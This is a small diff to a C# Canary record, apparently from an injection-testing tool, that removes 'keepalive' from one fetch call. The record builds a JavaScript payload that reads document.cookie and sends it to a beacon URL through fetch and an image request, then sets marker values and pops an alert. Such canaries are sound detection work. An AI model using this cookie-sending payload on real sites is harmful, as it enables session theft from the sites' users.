@@ -17,7 +17,7 @@ public sealed record Canary(Uri Beacon, string Token)
     public string Script { get; } =
         $"(function(){{var c='';try{{c=document.cookie}}catch(e){{c='no cookie'}}"
         + $"try{{window.canary='{Song}'}}catch(e){{}}try{{parent.canary='{Song}'}}catch(e){{}}try{{top.canary='{Song}'}}catch(e){{}}try{{document.title='{Song}'}}catch(e){{}}"
-        + $"try{{fetch('{Beacon}{Token}/ran?'+encodeURIComponent(c),{{mode:'no-cors',keepalive:true}})}}catch(e){{}}"
+        + $"try{{fetch('{Beacon}{Token}/ran?'+encodeURIComponent(c),{{mode:'no-cors'}})}}catch(e){{}}"
         + $"try{{new Image().src='{Beacon}{Token}/ran?'+encodeURIComponent(c)}}catch(e){{}}"
         + $"try{{postMessage('{Song}')}}catch(e){{}}"
         + $"try{{alert('{Song}')}}catch(e){{}}}})();";
